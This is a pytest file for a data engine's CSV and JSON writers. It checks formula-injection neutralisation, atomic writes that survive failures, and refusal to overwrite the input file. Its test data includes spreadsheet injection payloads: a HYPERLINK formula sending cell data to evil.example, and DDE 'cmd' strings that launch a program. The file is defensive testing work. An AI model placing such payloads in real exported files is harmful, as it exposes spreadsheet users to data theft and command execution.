"""Nothing lost, nothing run: the writers on hostile cells, failing writes and outputs
that name the input, with real files in tmp_path.

* Text cells a spreadsheet would run as formulas (OWASP: =, +, -, @, tab, CR first)
  are written with a single quote in front; numbers are written as they are.
* A write that fails (an unwritable folder, a row source or a disk that fails
  half-way) leaves the old file as it was, no temporary file, and says why.
* The input file is never written, whatever spelling of it the output path uses.
"""

from __future__ import annotations

import csv
import errno
import os
from collections.abc import Sequence

import numpy as np
import pytest
from data_files import error_of, leftovers, make_file

from engine.data.tables import DataError, Table, read_csv
from engine.data.writers import (
    atomic_path,
    neutralised,
    refuse_input_as_output,
    write_array_csv,
    write_json_atomic,
    write_labeled_csv,
)

HOSTILE = [
    "=1+2",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "-",
    "+",
    "=",
]
NUMBERS = ["-1.5", "+3", "-1e-05", "-.5", "+2.", "-0", "-inf", "-1,5", " -2.25 "]
PLAIN = ["setosa", "a=b", "x-y", "1+2", "", "'=already"]


@pytest.mark.parametrize("cell", HOSTILE)
def test_formula_cells_get_a_quote_in_front(cell):
    assert neutralised(cell) == "'" + cell


@pytest.mark.parametrize("cell", NUMBERS + PLAIN)
def test_numbers_and_plain_text_stay_as_they_are(cell):
    assert neutralised(cell) == cell


def _labeled_round_trip(tmp_path, text: str, n_rows: int):
    """Write the labeled CSV of the file ``text``; return (source table, output rows)."""
    source = read_csv(make_file(tmp_path, text))
    out = tmp_path / "out.csv"
    resp = np.tile([0.25, 0.75], (n_rows, 1))
    write_labeled_csv(out, source, resp)
    with open(out, newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file, delimiter=source.delimiter))
    return source, rows


def test_labeled_csv_neutralises_hostile_text_cells_small_file(tmp_path):
    """A small file goes through the csv module (rows as lists)."""
    cells = HOSTILE + NUMBERS[:3] + PLAIN[:3]
    body = "".join(f'{i}.5,-{i}.25,"{c.replace(chr(34), 2 * chr(34))}"\n'
                   for i, c in enumerate(cells))  # fmt: skip
    source, rows = _labeled_round_trip(tmp_path, "x,y,note\n" + body, len(cells))
    assert not hasattr(source.rows, "lines")
    written = [row[2] for row in rows[1:]]
    # The reader reads the file's line ends (CR inside quotes too) as '\n'.
    read = [c.replace("\r", "\n") for c in cells]
    assert [row[2] for row in source.rows] == read
    assert written == [neutralised(c) for c in read]
    assert written[: len(HOSTILE)] == ["'" + c if c[0] != "\r" else c.replace("\r", "\n")
                                       for c in HOSTILE]  # fmt: skip
    # Numbers, in the numeric columns and in the text column, are written as they were.
    assert [row[1] for row in rows[1:]] == [f"-{i}.25" for i in range(len(cells))]
    assert written[len(HOSTILE) : len(HOSTILE) + 3] == NUMBERS[:3]


@pytest.mark.parametrize("quoted", [False, True], ids=["plain", "r-export"])
def test_labeled_csv_neutralises_hostile_text_cells_large_file(tmp_path, quoted):
    """A file from 256 KiB on goes through pandas (rows as the file's lines)."""
    n = 20_000
    labels = ["setosa", "-1.5", "=1+2", "@SUM(A1)", "-2+3+cmd|' /C calc'!A0", "+x"]
    q = '"' if quoted else ""
    lines = [f"{i * 0.5},{-i * 0.25},{q}{labels[i % len(labels)]}{q}" for i in range(n)]
    source, rows = _labeled_round_trip(tmp_path, "x,y,note\n" + "\n".join(lines) + "\n", n)
    assert hasattr(source.rows, "lines"), "the test must reach the line-writing path"
    written = [row[2] for row in rows[1:]]
    assert written == [neutralised(labels[i % len(labels)]) for i in range(n)]
    assert written[:6] == ["setosa", "-1.5", "'=1+2", "'@SUM(A1)",
                           "'-2+3+cmd|' /C calc'!A0", "'+x"]  # fmt: skip
    assert [row[1] for row in rows[1:]] == [repr(-i * 0.25) for i in range(n)]


def test_a_hostile_header_is_neutralised(tmp_path):
    source, rows = _labeled_round_trip(tmp_path, "x,=cmd|' /C calc'!A0\n1,2\n3,4\n", 2)
    assert rows[0][:2] == ["x", "'=cmd|' /C calc'!A0"]
    out = tmp_path / "generated.csv"
    write_array_csv(out, np.array([[-1.0, 2.0]]), ["-x", "@y"])
    assert out.read_text().splitlines() == ["'-x,'@y", "-1.0,2.0"]


# ---------------------------------------------------------------------- failing writes
class FailingRows(Sequence):
    """A real row source that fails after ``good`` rows, as a disk that fills up does."""

    def __init__(self, good: int):
        self.good = good
        self.served = 0

    def __len__(self):
        return self.good + 1

    def __getitem__(self, i):
        if isinstance(i, slice):
            return [self[j] for j in range(*i.indices(len(self)))]
        if i >= self.good:
            raise OSError(errno.ENOSPC, "No space left on device")
        self.served += 1
        return [str(i)]


def test_a_write_that_fails_half_way_keeps_the_old_file_and_says_why(tmp_path):
    out = tmp_path / "out.csv"
    out.write_text("previous results\n")
    rows = FailingRows(100_000)
    numeric = {"x": np.arange(len(rows), dtype=float)}  # a numeric column: read only to write
    table = Table(None, ["x"], rows, numeric, ",", True, np.arange(len(rows)))
    message = error_of(write_labeled_csv, out, table, np.ones((len(rows), 1)))
    assert rows.served == 100_000  # the failure came after every good row was written
    assert message == f"{out}: cannot write: No space left on device"
    assert out.read_text() == "previous results\n"
    assert leftovers(tmp_path) == []


def test_json_that_fails_half_way_keeps_the_old_file(tmp_path):
    out = tmp_path / "model.json"
    out.write_text('{"old": true}\n')
    with pytest.raises(TypeError):
        write_json_atomic(out, {"weights": [0.5, 0.5], "bad": object()})
    assert out.read_text() == '{"old": true}\n'
    assert leftovers(tmp_path) == []


def _read_only_folder(tmp_path):
    folder = tmp_path / "locked"
    folder.mkdir()
    (folder / "out.csv").write_text("previous results\n")
    folder.chmod(0o555)
    return folder


@pytest.mark.skipif(os.name != "posix", reason="POSIX permissions")
def test_a_read_only_folder_keeps_the_old_file_and_says_why(tmp_path):
    folder = _read_only_folder(tmp_path)
    try:
        if os.access(folder, os.W_OK):
            pytest.skip("running as root: a folder's permissions do not stop root's writes "
                        "(the full-disk and path-under-a-file tests cover the failure)")
        source = read_csv(make_file(tmp_path, "x\n1\n2\n"))
        message = error_of(write_labeled_csv, folder / "out.csv", source, np.ones((2, 1)))
        assert message == f"{folder / 'out.csv'}: cannot write: Permission denied"
        assert (folder / "out.csv").read_text() == "previous results\n"
        assert sorted(os.listdir(folder)) == ["out.csv"]
    finally:
        folder.chmod(0o755)


def test_a_path_under_a_regular_file_says_why(tmp_path):
    """Unwritable for root too: a folder that is a file."""
    not_a_folder = make_file(tmp_path, "x\n1\n2\n")
    out = not_a_folder / "out.json"
    message = error_of(write_json_atomic, out, {"a": 1})
    assert message == f"{out}: cannot write: Not a directory"
    assert not_a_folder.read_text() == "x\n1\n2\n"


def test_atomic_path_for_writers_that_take_a_path(tmp_path):
    out = tmp_path / "view.png"
    out.write_bytes(b"old image")
    with atomic_path(out, keep_suffix=True) as temp:
        assert temp.endswith(".png") and os.path.dirname(temp) == str(tmp_path)
        with open(temp, "wb") as file:
            file.write(b"new image")
        assert out.read_bytes() == b"old image"  # not replaced before the block ends
    assert out.read_bytes() == b"new image"
    assert sorted(os.listdir(tmp_path)) == ["view.png"]
    # A writer that fails, or writes nothing: the old file stays, no temporary is left.
    with pytest.raises(RuntimeError), atomic_path(out, keep_suffix=True) as temp:
        with open(temp, "wb") as file:
            file.write(b"half")
        raise RuntimeError("the exporter failed")
    message = error_of(_write_nothing, out)
    assert message == f"{out}: cannot write: nothing was written"
    assert out.read_bytes() == b"new image"
    assert sorted(os.listdir(tmp_path)) == ["view.png"]


def _write_nothing(path):
    with atomic_path(path, keep_suffix=True):
        pass


# ---------------------------------------------------------------------- the input file
def _spellings_of(path, tmp_path, monkeypatch) -> list:
    """The input file named directly, relatively, through a symbolic and a hard link."""
    monkeypatch.chdir(tmp_path)
    os.symlink(path, tmp_path / "link.csv")
    os.link(path, tmp_path / "hard.csv")
    (tmp_path / "sub").mkdir()
    return [path, "data.csv", "./sub/../data.csv", tmp_path / "link.csv",
            tmp_path / "hard.csv"]  # fmt: skip


@pytest.mark.skipif(not hasattr(os, "symlink"), reason="links")
def test_the_input_is_never_written_by_any_spelling(tmp_path, monkeypatch):
    text = "x,y\n1,2\n3,4\n"
    path = make_file(tmp_path, text)
    source = read_csv(path)
    for spelling in _spellings_of(path, tmp_path, monkeypatch):
        message = error_of(write_labeled_csv, spelling, source, np.ones((2, 1)))
        assert message == f"{spelling}: is the input file; choose another output file"
        message = error_of(refuse_input_as_output, spelling, None, str(path))
        assert message.endswith("is the input file; choose another output file")
    assert path.read_text() == text
    assert leftovers(tmp_path) == []
    refuse_input_as_output(tmp_path / "other.csv", path)  # any other path is fine
    refuse_input_as_output(path, None)  # generated data: there is no input file


def test_a_refused_write_raises_a_data_error():
    assert issubclass(DataError, ValueError)  # the command line's exit 2, the window's message
